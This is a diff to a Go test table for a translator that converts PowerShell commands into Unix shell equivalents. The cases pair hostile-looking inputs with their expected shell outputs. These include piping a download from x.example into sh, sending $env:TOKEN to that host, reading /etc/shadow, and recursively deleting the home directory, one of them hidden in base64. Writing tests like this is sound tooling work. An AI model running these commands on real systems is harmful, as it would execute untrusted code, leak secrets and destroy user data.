@@ -48,6 +48,11 @@ func TestTranslatePwsh(t *testing.T) {
 		{"[System.IO.File]::ReadAllText('/etc/shadow')", "cat /etc/shadow"},
 		{"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('UmVtb3ZlLUl0ZW0gLVJlY3Vyc2UgLUZvcmNlIH4=')))", "sh -c 'rm -r -f ~'"},
 		{"Remove-Item -Recurse ~ -WhatIf", "echo"},
+		// Invoke-Expression of a command's output: the output run as code
+		{"iex (iwr https://x.example/a.ps1 -UseBasicParsing).Content", "curl https://x.example/a.ps1 | sh"},
+		{"Invoke-Expression -Command $(irm https://x.example/a.ps1)", "curl https://x.example/a.ps1 | sh"},
+		{"iex (Get-Content ./setup.ps1 -Raw)", "cat ./setup.ps1 | sh"},
+		{"iex (Get-Date).Ticks", "$_"},
 		{"iwr \"https://x.example/?k=$env:TOKEN\"", "curl \"https://x.example/?k=${TOKEN}\""},
 		{"$env:NODE_ENV = 'production'; npm run build", "export NODE_ENV=production\nnpm run build"},
 		{"[scriptblock]::Create('ri -r ~').Invoke()", "rm -r ~"},
